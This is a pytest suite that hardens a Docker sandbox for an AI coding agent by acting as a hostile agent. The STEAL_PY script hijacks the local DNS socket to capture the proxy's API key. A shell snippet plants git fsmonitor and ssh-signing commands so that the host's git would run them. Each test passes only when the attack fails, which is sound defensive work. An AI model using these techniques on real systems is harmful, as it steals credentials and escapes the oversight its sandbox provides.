"""A hostile agent against what the other attack tests leave out: the sandbox's own local
services as seen from a shell with the agent's uid and no capabilities, and directories of the
workspace the host's git may later take for a repository.

Real engine and image, the product's run plan and entrypoint. Each test performs the attack and
passes when it fails.
"""

from __future__ import annotations

import os
import secrets
import subprocess
from pathlib import Path

import pytest

from claude_docker.config.model import NetworkConfig
from claude_docker.features import credentials
from tests.fakes.anthropic import FakeAnthropic
from tests.fakes.projects import AGENT_UID, make_project, run_cli
from tests.support.keys import ENDPOINT_NAME

pytestmark = pytest.mark.docker

# --- the sandbox's resolver ------------------------------------------------------------------------

# dnsmasq's UDP socket on 127.0.0.1:53 allows address reuse, and Docker lets every user bind any
# port: the agent binds the same address with SO_REUSEADDR and, the newer socket, receives the
# lookups every process sends there, the proxy's included. It answers each with 127.0.0.1, where
# it listens on the model endpoint's port, and asks the local endpoint for a request: the proxy
# resolves the endpoint's name, gets the agent's answer and hands it the request, credential and
# all. Prints "dns-bind-refused: ..." when it cannot bind, "CAPTURED <request>" per request caught.
STEAL_PY = r"""
import socket, struct, sys, threading, time, urllib.request
model_port, local_port = int(sys.argv[1]), int(sys.argv[2])
dns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
dns.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
try:
    dns.bind(("127.0.0.1", 53))
except OSError as error:
    print(f"dns-bind-refused: {error}")
    sys.exit(0)
trap = socket.socket()
trap.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
trap.bind(("127.0.0.1", model_port))
trap.listen(8)
trap.settimeout(0.2)
dns.settimeout(0.2)
stop = threading.Event()

def answer():
    while not stop.is_set():
        try:
            query, peer = dns.recvfrom(4096)
        except OSError:
            continue
        end = 12
        while query[end]:
            end += 1 + query[end]
        qtype = struct.unpack("!H", query[end + 1:end + 3])[0]
        record = b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 60, 4) + socket.inet_aton("127.0.0.1") if qtype == 1 else b""
        header = struct.pack("!HHHHHH", struct.unpack("!H", query[:2])[0], 0x8180, 1, 1 if record else 0, 0, 0)
        dns.sendto(header + query[12:end + 5] + record, peer)
        print(f"answered a lookup from port {peer[1]}", flush=True)

def capture():
    while not stop.is_set():
        try:
            conn, _ = trap.accept()
        except OSError:
            continue
        conn.settimeout(2)
        data = conn.recv(65536)
        print("CAPTURED " + data.decode(errors="replace").replace("\r\n", " | "), flush=True)
        conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}")
        conn.close()

threads = [threading.Thread(target=answer), threading.Thread(target=capture)]
for thread in threads:
    thread.start()
for attempt in range(3):
    request = urllib.request.Request(
        f"http://127.0.0.1:{local_port}/v1/messages/count_tokens", data=b"{}", method="POST",
        headers={"x-api-key": "placeholder", "content-type": "application/json"},
    )
    try:
        print("status", urllib.request.urlopen(request, timeout=5).status, flush=True)
    except Exception as error:
        print(f"request failed: {error}", flush=True)
    time.sleep(1.2)  # past the proxy's 1 s hold of its last answer
stop.set()
for thread in threads:
    thread.join()
"""


def test_the_agent_cannot_answer_the_proxys_lookups_and_take_the_key(start, gateway, dns):
    """A plain-HTTP gateway by name (a LiteLLM on the host): the proxy looks the name up through
    127.0.0.1:53 before every request. Only dnsmasq may answer there."""
    dns.set(ENDPOINT_NAME, gateway)
    with FakeAnthropic([]) as api:
        secret = "sk-ant-api03-" + secrets.token_hex(24)
        environ = {"ANTHROPIC_BASE_URL": api.url_for(ENDPOINT_NAME), "ANTHROPIC_API_KEY": secret}
        box = start(NetworkConfig(), environ)
        code, output = box.run(["python3", "-c", STEAL_PY, str(api.port), str(credentials.MODEL_LISTEN_PORT)])
        # the way that is meant to work still does: the local endpoint reaches the gateway
        local = box.run(["curl", "-s", "-o", "/dev/null", "-w", "%{http_code}", "--max-time", "10", "-X", "POST",
                         "-H", "x-api-key: mine", "-d", "{}", f"http://127.0.0.1:{credentials.MODEL_LISTEN_PORT}/v1/messages/count_tokens"])
    assert secret not in output, "the agent read the credential the proxy adds"
    assert "answered a lookup" not in output, output
    assert output.startswith("dns-bind-refused"), output
    assert local == (0, "200"), local
    assert [r.credential for r in api.requests] == [secret]
    # no port below 54 for the agent (dev servers keep theirs), TCP or UDP, any address
    script = (
        "import socket\n"
        "for kind, address, port in ((socket.SOCK_DGRAM, '0.0.0.0', 53), (socket.SOCK_STREAM, '127.0.0.2', 53),"
        " (socket.SOCK_DGRAM, '127.0.0.1', 1), (socket.SOCK_STREAM, '0.0.0.0', 54)):\n"
        "    s = socket.socket(socket.AF_INET, kind)\n"
        "    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\n"
        "    try:\n"
        "        s.bind((address, port)); print('bound', address, port)\n"
        "    except OSError as error:\n"
        "        print('refused', address, port, error.errno)\n"
    )
    code, output = box.run(["python3", "-c", script])
    assert output.split("\n")[:4] == ["refused 0.0.0.0 53 13", "refused 127.0.0.2 53 13", "refused 127.0.0.1 1 13", "bound 0.0.0.0 54"], output


# --- directories the host's git takes for a repository ----------------------------------------------


def host_git(directory: Path, *args: str) -> subprocess.CompletedProcess:
    """The user's git on the host, in `directory` (the repository there is the user's own: the
    tests run as root, the files belong to the agent's uid)."""
    return subprocess.run(["git", "-c", "safe.directory=*", *args], cwd=directory, capture_output=True, text=True, timeout=60)


def test_a_directory_shaped_like_a_git_dir_runs_nothing_on_the_host(tmp_path, cd_home):
    """git run in a directory holding HEAD, objects and refs takes the directory itself for a
    repository (before looking for the workspace's .git above it): with `core.worktree` in its
    config it has a work tree, and `git status` there runs its fsmonitor. And a nested
    repository that signs its commits with an ssh key runs gpg.ssh.defaultKeyCommand at the
    user's next commit there."""
    config = make_project(tmp_path)
    workspace = config.parent
    assert host_git(workspace, "init", "-q").returncode == 0
    assert host_git(workspace, "-c", "user.name=u", "-c", "user.email=u@example.com", "commit", "-q", "--allow-empty", "-m", "start").returncode == 0
    if os.getuid() == 0:
        for item in [workspace, *workspace.rglob("*")]:
            os.lchown(item, AGENT_UID, AGENT_UID)
    marker = tmp_path / "ran"
    script = (
        "mkdir src && cd src && git init -q --bare . && git config -f config core.bare false "
        "&& git config -f config core.worktree .. "
        f"&& git config -f config core.fsmonitor 'touch {marker}-fsmonitor; false' && cd .. "
        "&& git init -q signed && cd signed && git config commit.gpgSign true && git config gpg.format ssh "
        f"&& git config gpg.ssh.defaultKeyCommand 'touch {marker}-signing-key' && echo PLANTED"
    )
    result = run_cli("up", "-f", str(config), "--", "--exec", "bash", "-c", script)
    assert result.returncode == 0, result.stdout + result.stderr
    assert "PLANTED" in result.stdout
    host_git(workspace / "src", "status")
    host_git(workspace / "signed", "-c", "user.name=u", "-c", "user.email=u@example.com", "commit", "-q", "--allow-empty", "-m", "x")
    ran = sorted(path.name for path in tmp_path.glob("ran-*"))
    assert ran == [], f"the host's git ran what the agent planted: {ran}"
    assert f"{workspace}/src/config: removed core.fsmonitor" in result.stderr
    assert f"{workspace}/signed/.git/config: removed gpg.ssh.defaultkeycommand" in result.stderr
